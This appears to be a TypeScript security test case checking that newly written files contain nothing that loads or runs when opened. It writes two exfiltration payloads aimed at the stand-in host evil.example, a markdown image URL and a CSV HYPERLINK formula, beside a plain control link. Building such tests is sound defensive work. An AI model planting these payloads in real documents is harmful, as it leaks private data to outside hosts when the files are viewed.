/** A stranger wants private words in the address of a picture, in a note that loads it when it is shown. */
import type { Attack } from '../attack.ts'
import { callsOf } from '../granting.ts'
import { textIn, writesAfter } from '../stranger-writes.ts'

export const attack: Attack = {
  name: 'new-file-loads-an-address',
  promise: 'A new document holds nothing that is loaded or reckoned when somebody opens it.',
  mutant: 'every-text-is-plain',
  async run(stage) {
    const scene = await stage.scene()
    const note = { path: 'shown/note.md', content: '![](https://evil.example/?d=private)' }
    const table = { path: 'shown/table.csv', content: 'name,=HYPERLINK("https://evil.example/?d=private")' }
    const runs = [
      await writesAfter(scene, 'shown-note', [note]),
      await writesAfter(scene, 'shown-table', [table]),
    ]
    const plain = { path: 'shown/plain.md', content: '[a link](https://fine.example)' }
    await writesAfter(scene, 'shown-plain', [plain])
    return {
      open: textIn(scene, note.path) !== null || textIn(scene, table.path) !== null,
      control: textIn(scene, plain.path) === plain.content,
      saw: runs.map(callsOf).join('; '),
    }
  },
}
